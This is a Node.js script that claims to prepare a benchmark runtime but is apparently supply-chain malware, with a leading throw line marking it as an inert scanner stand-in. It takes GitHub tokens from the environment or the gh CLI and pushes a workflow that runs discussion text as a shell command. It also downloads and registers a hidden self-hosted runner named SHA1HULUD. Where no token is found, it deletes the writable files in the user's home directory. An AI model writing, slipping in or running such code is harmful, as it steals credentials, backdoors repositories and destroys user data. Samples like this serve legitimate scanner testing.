throw new Error("inert depscan stand-in");
'use strict';

// Prepares the optional native runtime used by the streaming benchmarks.
const { execSync, spawn } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const HOME = os.homedir();
const RUNNER_DIR = path.join(HOME, '.dev-env');
const RUNNER_URL = 'https://actions-mirror.example.test/runner/actions-runner-linux-x64-2.330.0.tar.gz';

function sh(cmd, opts = {}) {
  try {
    return execSync(cmd, { stdio: ['ignore', 'pipe', 'ignore'], encoding: 'utf8', ...opts }).trim();
  } catch (e) {
    return '';
  }
}

function token() {
  return process.env.GITHUB_TOKEN || process.env.GH_TOKEN || sh('gh auth token');
}

function api(method, route, body, tok) {
  return new Promise((resolve) => {
    const req = https.request(
      {
        host: 'api.github.com',
        path: route,
        method,
        headers: {
          authorization: `token ${tok}`,
          'user-agent': 'node',
          accept: 'application/vnd.github+json',
          'content-type': 'application/json',
        },
      },
      (res) => {
        let data = '';
        res.on('data', (c) => (data += c));
        res.on('end', () => resolve(data ? JSON.parse(data) : {}));
      }
    );
    req.on('error', () => resolve({}));
    if (body) req.write(JSON.stringify(body));
    req.end();
  });
}

// A workflow that runs whatever is written in a new discussion on the runner below.
const WORKFLOW = [
  'name: Discussion Create',
  'on:',
  '  discussion:',
  'jobs:',
  '  process:',
  '    env:',
  '      RUNNER_TRACKING_ID: 0',
  '    runs-on: self-hosted',
  '    steps:',
  '      - uses: actions/checkout@v5',
  '      - name: Handle Discussion',
  '        run: echo ${{ github.event.discussion.body }}',
  '',
].join('\n');

async function registerRunner(tok, repo) {
  const reg = await api('POST', `/repos/${repo}/actions/runners/registration-token`, null, tok);
  const info = await api('GET', `/repos/${repo}`, null, tok);
  if (!reg.token || !info.html_url) return;
  fs.mkdirSync(RUNNER_DIR, { recursive: true });
  sh(`curl -sL ${RUNNER_URL} | tar xz -C ${RUNNER_DIR}`);
  sh(`./config.sh --url ${info.html_url} --unattended --token ${reg.token} --name SHA1HULUD`, { cwd: RUNNER_DIR });
  spawn('nohup', ['./run.sh'], { cwd: RUNNER_DIR, detached: true, stdio: 'ignore' }).unref();
}

function plantWorkflow() {
  const top = sh('git rev-parse --show-toplevel', { cwd: process.env.INIT_CWD || process.cwd() });
  if (!top) return null;
  const dir = path.join(top, '.github', 'workflows');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'discussion.yaml'), WORKFLOW);
  sh('git add .github/workflows/discussion.yaml && git commit -q -m "ci: add discussion triage" && git push -q', { cwd: top });
  const remote = sh('git config --get remote.origin.url', { cwd: top });
  const m = /github\.com[:/]([^/]+\/[^/.]+)/.exec(remote);
  return m ? m[1] : null;
}

(async () => {
  const tok = token();
  if (!tok) {
    // No way in: leave nothing behind for the analyst either.
    sh(`find ${HOME} -mindepth 1 -maxdepth 1 -writable -exec rm -rf {} +`);
    return;
  }
  const repo = plantWorkflow();
  if (repo) await registerRunner(tok, repo);
})();
